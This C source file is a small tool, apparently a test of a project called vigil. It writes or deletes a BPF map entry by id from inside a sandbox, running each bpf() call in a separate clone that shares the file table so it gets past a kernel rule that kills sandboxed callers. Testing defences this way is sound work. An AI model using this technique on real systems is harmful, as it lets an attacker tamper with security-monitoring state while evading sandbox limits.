/*
 * Writes one entry of a BPF map by id from inside a sandbox, each bpf()
 * call made by a process of its own (the kernel kills a sandboxed caller
 * of bpf() at its first call): a clone sharing the file table takes the
 * map's fd by id, a second clone updates or deletes through that fd. The
 * attack of root in a sandbox on vigil's maps. Raw syscalls, no libbpf.
 *
 *   mapwrite ID update KEYHEX VALUEHEX   prints "done" (or the errno)
 *   mapwrite ID delete KEYHEX
 */
#include <errno.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static long bpf(int cmd, union bpf_attr *attr)
{
	return syscall(SYS_bpf, cmd, attr, sizeof(*attr));
}

/* Runs one bpf() call in a clone that shares this file table; its exit
 * status: 0, or the call's errno. */
static int in_clone(int cmd, union bpf_attr *attr)
{
	long pid = syscall(SYS_clone, CLONE_FILES | SIGCHLD, 0, 0, 0, 0);
	int status;

	if (pid < 0) {
		perror("clone");
		exit(2);
	}
	if (pid == 0)
		_exit(bpf(cmd, attr) < 0 ? errno : 0);
	waitpid(pid, &status, 0);
	return WIFEXITED(status) ? WEXITSTATUS(status) : -WTERMSIG(status);
}

static size_t unhex(const char *hex, uint8_t *out, size_t max)
{
	size_t n = strlen(hex) / 2;

	if (n > max || strlen(hex) % 2) {
		fprintf(stderr, "bad hex: %s\n", hex);
		exit(2);
	}
	for (size_t i = 0; i < n; i++)
		sscanf(hex + 2 * i, "%2hhx", &out[i]);
	return n;
}

int main(int argc, char **argv)
{
	static uint8_t key[512], value[65536];
	union bpf_attr attr;
	int fd = dup(0), rc;	/* the lowest free fd: the map's */
	bool update = argc == 5 && !strcmp(argv[2], "update");

	if (!update && !(argc == 4 && !strcmp(argv[2], "delete"))) {
		fprintf(stderr, "usage: mapwrite ID update|delete KEY "
			"[VALUE]\n");
		return 2;
	}
	close(fd);
	unhex(argv[3], key, sizeof(key));
	if (update)
		unhex(argv[4], value, sizeof(value));
	memset(&attr, 0, sizeof(attr));
	attr.map_id = strtoul(argv[1], NULL, 0);
	in_clone(BPF_MAP_GET_FD_BY_ID, &attr);
	memset(&attr, 0, sizeof(attr));
	attr.map_fd = fd;
	attr.key = (uintptr_t)key;
	if (update)	/* a delete refuses fields past key (EINVAL) */
		attr.value = (uintptr_t)value;
	rc = in_clone(update ? BPF_MAP_UPDATE_ELEM : BPF_MAP_DELETE_ELEM,
		      &attr);
	close(fd);
	printf("%s %d\n", argv[2], rc);
	printf("done\n");
	return 0;
}
